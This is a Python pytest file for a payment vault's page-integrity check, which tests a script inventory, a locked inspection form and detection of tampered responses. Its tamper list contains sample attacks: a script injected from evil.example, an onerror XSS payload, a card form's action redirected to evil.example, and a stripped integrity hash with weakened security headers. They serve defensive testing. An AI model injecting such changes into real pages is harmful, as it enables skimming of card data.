"""The inventory is what the page is; the check of a running page tells what differs, whichever way it was changed."""

import re
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from aiohttp import web

from infra.cli import arguments
from infra.dev.browser import Browser
from tests.support.card_site import CardSite
from tests.support.waiting import wait_until
from tests.vault.bench import Bench
from vault.cleartext.page.assets import STATIC
from vault.cleartext.page.inventory import INVENTORY, inventory_text, read_inventory
from vault.page_check import INSPECTION, PageUnreachable, check_page
from vault.page_command import main

TEMPLATES = Path(__file__).parents[2] / "vault/cleartext/page/templates"
FORM = f"/captures/{INSPECTION.capture_id}"
Tamper = Callable[[web.Response], None]


def test_the_committed_inventory_is_that_of_the_pages_files_reasons_and_headers():
    assert INVENTORY.read_text(encoding="utf-8") == inventory_text(), "run `undercroft page inventory`"


@pytest.mark.control("UC-6.4.3")
def test_every_script_of_every_template_is_in_the_inventory_with_a_reason():
    tags = [tag for path in TEMPLATES.iterdir() for tag in re.findall(r"<script\b[^>]*>", path.read_text())]
    scripts = [entry for entry in read_inventory()["files"] if entry["kind"] == "script"]

    assert tags == ['<script src="{{ script.path }}" integrity="{{ script.integrity }}" defer>']
    assert [entry["name"] for entry in scripts] == ["card.js"]
    assert all(len(entry["reason"]) > 40 and entry["contains"] for entry in scripts)


@pytest.mark.control("UC-6.4.3")
async def test_a_real_browser_loads_what_the_inventory_names_and_nothing_else(browser: Browser, site: CardSite):
    page = await browser.open_page()

    named = {entry["path"] for entry in read_inventory()["files"]}

    def loaded() -> set[str]:
        return {urlsplit(request.url).path for request in page.requests} - {urlsplit(site.url).path}

    await page.goto(site.url)
    await wait_until(lambda: loaded() >= named)  # a browser asks for the icon when it likes to, after the load too

    assert loaded() == named


async def test_the_inspected_page_can_be_seen_by_anybody_and_posted_by_nobody(bench: Bench):
    shown = await bench.browser.get(FORM)
    posted = await bench.browser.post(
        FORM, data={"csrf": "inspection", "number": "4242424242424242"}, headers={"origin": bench.page_url}
    )

    assert (shown.status_code, posted.status_code) == (200, 410)
    assert "Inspection" in shown.text
    assert "set-cookie" not in shown.headers


@asynccontextmanager
async def served(bench: Bench, tampers: dict[str, Tamper]) -> AsyncIterator[str]:
    """The vault's page listener behind a proxy that lays hands on some of its answers."""

    async def pass_on(request: web.Request) -> web.Response:
        answer = await bench.browser.get(request.path_qs, headers={"accept-language": "en"})
        headers = {name: value for name, value in answer.headers.items() if name != "content-length"}
        response = web.Response(status=answer.status_code, body=answer.content, headers=headers)
        for path, tamper in tampers.items():
            if request.path == path:
                tamper(response)
        return response

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", pass_on)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


def in_text(old: str, new: str) -> Tamper:
    def tamper(response: web.Response) -> None:
        assert isinstance(response.body, bytes)
        text = response.body.decode()
        assert old in text
        response.body = text.replace(old, new, 1).encode()

    return tamper


def in_header(name: str, value: str | None) -> Tamper:
    def tamper(response: web.Response) -> None:
        response.headers.popall(name, None)
        if value is not None:
            response.headers[name] = value

    return tamper


def second_header(name: str, value: str) -> Tamper:
    return lambda response: response.headers.add(name, value)


def as_status(status: int) -> Tamper:
    return lambda response: response.set_status(status)


SCRIPT = STATIC["card.js"].path
WEAKER = "default-src 'none'; script-src *"
TAMPERED: list[tuple[str, Tamper, str]] = [
    (FORM, in_text("</head>", '<script src="https://evil.example/x.js"></script></head>'), "evil.example"),
    (FORM, in_text("</body>", "<img src=x onerror=alert(1)></body>"), "onerror"),
    (FORM, in_text(f'action="{FORM}', 'action="https://evil.example/take'), "evil.example"),
    (FORM, in_text(' integrity="sha384', ' data-was="sha384'), "data-was"),
    (FORM, in_text("Card number", "Card number and PIN"), "PIN"),
    (FORM, in_text("x-wing", "x-weak"), "public keys"),
    (FORM, in_text("tnt_inspection", "tnt_elsewhere"), "public keys"),
    (FORM, in_text("data-keys=", "data-no-keys="), "public keys"),
    (FORM, in_text('data-keys="', 'data-keys="nonsense'), "public keys"),
    (FORM, in_header("Content-Security-Policy", None), "content-security-policy: missing"),
    (FORM, in_header("Content-Security-Policy", WEAKER), "content-security-policy: default-src"),
    (FORM, second_header("Content-Security-Policy", WEAKER), "content-security-policy"),
    (FORM, second_header("Content-Security-Policy-Report-Only", WEAKER), "was added"),
    (FORM, second_header("Set-Cookie", "seen=1"), "set-cookie"),
    (FORM, second_header("Link", "<https://evil.example/x.js>; rel=preload; as=script"), "link"),
    (FORM, second_header("Access-Control-Allow-Origin", "*"), "access-control-allow-origin"),
    (FORM, as_status(203), "status 203"),
    (SCRIPT, in_text("addEventListener", "addEventListener "), "sha256"),
    (SCRIPT, as_status(404), "status 404"),
    (STATIC["card.css"].path, in_text("body", "body,x"), "style"),
]


@pytest.mark.control("UC-11.6.1")
async def test_the_check_finds_nothing_on_an_honest_way_and_names_every_way_to_tamper(bench: Bench):
    async with served(bench, {}) as url:
        honest = await check_page(url)
    found = []
    for path, tamper, _ in TAMPERED:
        async with served(bench, {path: tamper}) as url:
            found.append(await check_page(url))

    assert honest == []
    missed = [says for (_, _, says), lines in zip(TAMPERED, found, strict=True) if says not in "\n".join(lines)]
    assert missed == []
    assert all(line.isascii() and line.isprintable() for lines in found for line in lines)


async def test_a_page_that_does_not_answer_or_does_not_end_is_no_page_in_order(bench: Bench):
    endless: Tamper = lambda response: setattr(response, "body", b"x" * 1_100_000)  # noqa: E731 - one statement

    async with served(bench, {FORM: endless}) as url:
        with pytest.raises(PageUnreachable, match="more than"):
            await check_page(url)
    with pytest.raises(PageUnreachable):
        await check_page(url)


def test_the_command_says_whether_the_inventory_is_up_to_date(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    current, stale = tmp_path / "current.json", tmp_path / "stale.json"
    stale.write_text("{}")
    codes = []
    for path in (current, stale):
        monkeypatch.setattr("vault.page_command.INVENTORY", path)
        if path is current:
            codes.append(main(["inventory"]))
        codes.append(main(["inventory", "--check"]))

    assert codes == [0, 0, 1]
    assert current.read_text() == inventory_text()
    assert "not up to date" in capsys.readouterr().err


@pytest.mark.parametrize("url", ["http://pay.example", "ftp://127.0.0.1", "pay.example", ""])
def test_the_command_takes_no_page_that_anybody_on_the_way_could_have_written(url: str):
    with pytest.raises(SystemExit) as ended:
        main(["check", url])

    assert ended.value.code == 2


def test_the_command_line_hands_page_to_the_vault_as_it_was_typed():
    options = arguments.parse(["page", "check", "https://pay.example"])

    assert (options.command, options.arguments) == ("page", ["check", "https://pay.example"])


def test_an_unreachable_page_is_an_exit_code_of_its_own(capsys: pytest.CaptureFixture[str]):
    assert main(["check", "http://127.0.0.1:9"]) == 3
    assert "127.0.0.1:9" in capsys.readouterr().err
